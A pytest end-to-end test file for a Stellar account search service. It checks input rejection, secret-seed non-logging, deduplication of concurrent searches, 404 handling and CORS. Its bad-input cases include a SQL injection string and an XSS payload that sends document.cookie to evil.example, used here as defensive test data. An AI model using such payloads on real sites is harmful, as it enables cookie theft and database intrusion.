"""Failure cases against the running stack, over HTTP: bad input of every kind is a 400 that writes
and queues nothing (a secret seed is never logged), 100 concurrent identical searches enqueue one
task and complete, an account that does not exist ends as a clear 404, CORS answers the site."""
from __future__ import annotations

import concurrent.futures
import os
import threading
import urllib.error
import urllib.parse
import urllib.request

import pytest
from stellar_sdk import Keypair, StrKey

from tests.e2e.conftest import accounts_of, differences, get_json, search, wait_complete
from tests.support import random_account

pytestmark = pytest.mark.e2e


def pending(stack) -> list:
    status, body = get_json(f"{stack.urls['stats']}/pending-accounts")
    assert status == 200, body
    return sorted((a["network"], a["account"], a["table"]) for a in body["accounts"])


def task_count(stack) -> int:
    return sum(sum(states.values()) for states in stack.queue_counts().values())


def test_bad_input_is_400_and_nothing_is_written_or_queued(local_stack):
    kp = Keypair.random()
    before_pending, before_tasks = pending(local_stack), task_count(local_stack)
    good = kp.public_key
    bad = {
        "bad checksum": good[:-1] + ("A" if good[-1] != "A" else "B"),
        "contract id": StrKey.encode_contract(os.urandom(32)),
        "secret seed": kp.secret,
        "empty": "",
        "10 KB": "G" * 10_240,
        "sql": "GABC' OR '1'='1'; --",
        "script": "<script>fetch('//evil.example/'+document.cookie)</script>",
    }
    for label, raw in bad.items():
        status, body = search(local_stack, raw)
        assert status == 400 and body["error"]["field"] == "account" and body["error"]["message"], (label, body)
    status, body = get_json(f"{local_stack.urls['search']}/search?account={good}&network=mainnet")
    assert status == 400 and body["error"]["code"] == "invalid_network"
    assert pending(local_stack) == before_pending and task_count(local_stack) == before_tasks
    for log in local_stack.logs.glob("*.log"):
        assert kp.secret not in log.read_text(errors="replace"), log


def test_100_concurrent_identical_searches_enqueue_once_and_complete(local_stack):
    account = next(a["account"] for a in accounts_of(local_stack, "ordinary", 200)[150:] if a["exists"] and a["num_children"] < 50)
    url = f"{local_stack.urls['search']}/search?" + urllib.parse.urlencode({"account": account, "network": "public"})
    barrier = threading.Barrier(100)

    def one(_):
        barrier.wait()
        return get_json(url)[0]

    with concurrent.futures.ThreadPoolExecutor(100) as pool:
        statuses = list(pool.map(one, range(100)))
    assert set(statuses) <= {200, 202}
    db = local_stack.task_db()
    try:
        lineage_tasks = [t for t in db.tasks("lineage") if account in t["name"]]
    finally:
        db.close()
    assert [t["name"] for t in lineage_tasks] == [f"public-{account}-lineage-0"]
    final = wait_complete(local_stack, [account], timeout=300)
    assert final[account][0] == 200
    local_stack.wait_idle(300)
    assert differences(local_stack, account) == []


def test_an_account_that_does_not_exist_ends_as_a_404(local_stack):
    missing = accounts_of(local_stack, "missing", 2)[1]["account"]
    fresh = random_account()
    for a in (missing, fresh):
        assert search(local_stack, a)[0] == 202
    final = wait_complete(local_stack, [missing, fresh], timeout=300)
    for a in (missing, fresh):
        status, body = final[a]
        assert status == 404 and body["error"]["code"] == "account_not_found" and body["error"]["details"]["status"] == "INVALID"


def test_the_site_is_served_with_its_generated_config_and_cors(local_stack):
    from local.processes import http_get

    status, page = http_get(local_stack.urls["site"] + "/")
    assert status == 200 and b"<html" in page.lower()
    status, config = http_get(local_stack.urls["site"] + "/config.js")
    assert status == 200 and local_stack.urls["search"].encode() in config and local_stack.urls["stats"].encode() in config
    for origin, allowed in ((local_stack.urls["site"], True), ("https://elsewhere.example", False)):
        req = urllib.request.Request(f"{local_stack.urls['search']}/search?account=x", headers={"Origin": origin})
        with pytest.raises(urllib.error.HTTPError) as info:
            urllib.request.build_opener(urllib.request.ProxyHandler({})).open(req, timeout=30)
        assert info.value.code == 400
        assert info.value.headers.get("Access-Control-Allow-Origin") == (origin if allowed else None)
